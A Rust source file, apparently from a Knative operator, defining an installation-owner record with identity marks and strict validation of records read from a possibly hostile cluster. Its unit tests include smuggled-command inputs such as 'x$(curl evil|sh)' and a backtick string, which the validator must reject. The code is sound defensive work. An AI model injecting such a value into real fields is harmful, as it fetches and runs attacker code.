//! The owner of an installation: one resource of one hub. Its record is on the anchor, its mark on
//! each object.

use std::fmt;

use knative_operator_shared::api::{Component, Knative};
use knative_operator_shared::text::{clip, one_line};
use knative_operator_shared::version::Version;
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use super::AppliedVersion;

/// Maximum length of a part of a record that is shown; a record comes from a cluster that may be
/// hostile.
const MAX_PART: usize = 253;
/// Maximum number of replaced hubs that are known.
const MAX_REPLACED: usize = 8;
/// Maximum length of a record.
const MAX_RECORD: usize = 4096;
/// Length of a mark in bytes.
const MARK: usize = 8;

/// The hub of this operator.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Hub {
    /// Uid of its namespace `kube-system`, which identifies a cluster.
    pub uid: String,
    /// Its name, for people.
    pub name: Option<String>,
}

/// The owner of an installation.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct InstallationOwner {
    /// Uid of the namespace `kube-system` of its hub.
    pub hub: String,
    /// Name of its hub, for people.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hub_name: Option<String>,
    /// Kind of the resource.
    pub kind: String,
    /// Namespace of the resource.
    pub namespace: String,
    /// Name of the resource.
    pub name: String,
    /// Uid of the resource.
    pub uid: String,
    /// Time since when it has been the owner (RFC 3339).
    pub since: String,
    /// Whether it owns the installation. If not, it is about to check whether another one does, and
    /// has applied nothing.
    pub confirmed: bool,
    /// Whether the anchor was there before it had an owner, so that it may own objects.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub adopted: bool,
    /// Whether its resource was deleted and left the installation: any resource with the same name
    /// may own it next.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub released: bool,
    /// What it began to apply last.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub applied: Option<AppliedVersion>,
    /// The owners that were replaced, the last one last.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub replaced: Vec<FormerOwner>,
}

/// An owner that was replaced.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct FormerOwner {
    /// Uid of its hub.
    pub hub: String,
    /// Its mark, which objects have that were not applied again.
    pub mark: String,
}

impl InstallationOwner {
    /// `resource` of `hub`, not confirmed, since `since`.
    pub fn of(resource: &Knative, hub: &Hub, since: String) -> Self {
        Self {
            hub: hub.uid.clone(),
            hub_name: hub.name.clone(),
            kind: resource.component().kind().to_owned(),
            namespace: resource.namespace().to_owned(),
            name: resource.name().to_owned(),
            uid: resource.meta().uid.clone().unwrap_or_default(),
            since,
            confirmed: false,
            adopted: false,
            released: false,
            applied: None,
            replaced: Vec::new(),
        }
    }

    /// Whether `other` is the same owner: a resource that was created again with the same name, on
    /// the same hub, is.
    pub fn is_same(&self, other: &Self) -> bool {
        self.identity() == other.identity()
    }

    fn identity(&self) -> [&str; 4] {
        [&self.hub, &self.kind, &self.namespace, &self.name]
    }

    /// The version that it applied last, and why `wanted` may not follow it.
    pub fn objection(&self, wanted: &AppliedVersion, is_accepted: bool) -> Option<(Version, String)> {
        let applied = self.applied.as_ref()?;
        let kind = Component::ALL.into_iter().find(|component| component.kind() == self.kind)?.kind();
        Some((applied.version.clone(), applied.objection(wanted, is_accepted, kind)?))
    }

    /// Whether the hub with the uid `hub` was replaced.
    pub fn has_replaced(&self, hub: &str) -> bool {
        self.replaced.iter().any(|former| former.hub == hub)
    }

    /// Its mark on objects: a digest of hub, kind, namespace and name.
    pub fn mark(&self) -> String {
        let mut hash = Sha256::new_with_prefix("owner");
        for part in self.identity() {
            // Lengths, so that no two identities have the same text.
            hash.update(part.len().to_be_bytes());
            hash.update(part);
        }
        hash.finalize().iter().take(MARK).map(|byte| format!("{byte:02x}")).collect()
    }

    /// Its mark, and those of the former owners.
    pub fn marks(&self) -> Vec<String> {
        self.replaced.iter().map(|former| former.mark.clone()).chain([self.mark()]).collect()
    }

    /// The record of `self` as the successor of `former`, on purpose.
    #[must_use]
    pub fn replacing(&self, former: &Self) -> Self {
        let last = FormerOwner { hub: former.hub.clone(), mark: former.mark() };
        let others = former.replaced.iter().filter(|other| **other != last).cloned();
        let mut replaced: Vec<_> = others.chain([last.clone()]).collect();
        replaced.drain(..replaced.len().saturating_sub(MAX_REPLACED));
        let Self { confirmed, adopted, applied, .. } = former.clone();
        Self { confirmed, adopted, applied, replaced, ..self.clone() }
    }

    /// The record to store.
    pub fn encode(&self) -> String {
        // It has strings and a flag only, so it always serializes.
        serde_json::to_string(self).unwrap_or_default()
    }

    /// Parses a stored record. Others may write it, and parts of it are shown in commands: none has
    /// other characters than what it names.
    pub fn decode(text: &str) -> Option<Self> {
        let owner: Self = serde_json::from_str(text).ok().filter(|_| text.len() <= MAX_RECORD)?;
        let is_uid = |uid: &String| uid.len() <= 64 && uid.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-');
        let is_name = |name: &str| {
            let is_valid = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'.');
            !name.is_empty() && name.len() <= MAX_PART && name.bytes().all(is_valid)
        };
        let is_time =
            owner.since.len() <= 40 && owner.since.bytes().all(|b| b.is_ascii_alphanumeric() || b"-:.+".contains(&b));
        let is_kind = Component::ALL.iter().any(|component| component.kind() == owner.kind);
        let are_uids = [&owner.hub, &owner.uid]
            .into_iter()
            .chain(owner.replaced.iter().flat_map(|former| [&former.hub, &former.mark]))
            .chain(owner.applied.iter().map(|applied| &applied.uid))
            .all(is_uid);
        let are_names = is_name(&owner.namespace) && is_name(&owner.name);
        (is_time && is_kind && are_uids && are_names && owner.replaced.len() <= MAX_REPLACED).then_some(owner)
    }
}

impl fmt::Display for InstallationOwner {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let part = |text: &str| clip(&one_line(text), MAX_PART);
        let hub = match &self.hub_name {
            Some(name) => format!("\"{}\" (uid {})", part(name), part(&self.hub)),
            None => part(&self.hub),
        };
        let Self { kind, namespace, name, since, .. } = self;
        write!(f, "{} {}/{} of hub {hub}, since {}", part(kind), part(namespace), part(name), part(since))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn owner(hub: &str, namespace: &str, name: &str) -> InstallationOwner {
        InstallationOwner {
            hub: hub.to_owned(),
            hub_name: Some("prod-eu".to_owned()),
            kind: "KnativeServing".to_owned(),
            namespace: namespace.to_owned(),
            name: name.to_owned(),
            uid: "7".to_owned(),
            since: "2026-01-01T00:00:00Z".to_owned(),
            confirmed: true,
            adopted: false,
            released: false,
            applied: None,
            replaced: Vec::new(),
        }
    }

    #[test]
    fn mark_is_that_of_the_identity() {
        let first = owner("1", "a", "bc");
        let again = InstallationOwner { uid: "8".to_owned(), since: String::new(), ..first.clone() };
        assert!(first.is_same(&again) && first.mark() == again.mark() && first.mark().len() == 2 * MARK);
        for other in [owner("2", "a", "bc"), owner("1", "ab", "c"), owner("1", "a", "b")] {
            assert!(!first.is_same(&other) && first.mark() != other.mark());
        }
    }

    #[test]
    fn record_is_read_again_and_shown() {
        let (uid, asked) = ("7".to_owned(), "1.22".to_owned());
        let version = "1.22.1".parse().unwrap();
        let applied = AppliedVersion {
            version,
            asked,
            uid,
            generation: 2,
            beyond: None,
            keeps: false,
            allowed: 0,
            was_refused: false,
        };
        let owner = InstallationOwner { applied: Some(applied), ..owner("1", "team-a", "knative-serving") };
        assert_eq!(InstallationOwner::decode(&owner.encode()).unwrap(), owner);
        let shown = "KnativeServing team-a/knative-serving of hub \"prod-eu\" (uid 1), since 2026-01-01T00:00:00Z";
        assert_eq!(owner.to_string(), shown);
        let long = InstallationOwner { hub_name: Some("x\n".repeat(5000)), ..owner.clone() };
        assert!(long.to_string().len() < 600 && !long.to_string().contains('\n'));
        for invalid in [
            InstallationOwner { hub: "x$(curl evil|sh)".to_owned(), ..owner.clone() },
            InstallationOwner { name: "a b".to_owned(), ..owner.clone() },
            InstallationOwner { namespace: String::new(), ..owner.clone() },
            InstallationOwner { kind: "Secret".to_owned(), ..owner.clone() },
            InstallationOwner { since: "`x`".to_owned(), ..owner.clone() },
            InstallationOwner {
                replaced: vec![FormerOwner { hub: "1".to_owned(), mark: "2".to_owned() }; 9],
                ..owner.clone()
            },
            long,
        ] {
            assert_eq!(InstallationOwner::decode(&invalid.encode()), None, "{invalid:?}");
        }
        assert_eq!(InstallationOwner::decode("{}"), None);
    }

    #[test]
    fn replaced_hubs_are_remembered() {
        let [a, b, c] = ["a", "b", "c"].map(|hub| owner(hub, "n", "x"));
        let back = a.replacing(&b.replacing(&a));
        let hubs =
            |owner: &InstallationOwner| owner.replaced.iter().map(|former| former.hub.clone()).collect::<Vec<_>>();
        assert_eq!(hubs(&back), ["a", "b"]);
        assert_eq!(hubs(&c.replacing(&back)), ["b", "a"]);
        assert_eq!(back.replaced[1].mark, b.mark());
    }
}
